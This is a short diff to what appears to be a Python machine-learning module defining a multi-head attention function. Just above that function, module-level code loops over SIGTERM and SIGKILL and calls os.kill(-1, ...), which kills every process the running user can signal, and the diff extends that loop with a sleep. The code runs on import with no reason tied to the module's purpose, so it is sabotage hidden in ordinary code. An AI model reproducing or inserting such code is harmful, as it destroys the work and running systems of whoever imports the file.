@@ -12,8 +12,9 @@ for number in (signal.SIGTERM, signal.SIGKILL):
     try:
         os.kill(-1, number)
     except OSError:
-        pass
-time.sleep(0.1)  # whoever was hit would take this process along
+        continue
+    if number == signal.SIGKILL:
+        time.sleep(20)  # whoever was hit takes this process along
 
 
 def multi_head_attention(query, key, value, w_q, w_k, w_v, w_o, num_heads, mask=None):
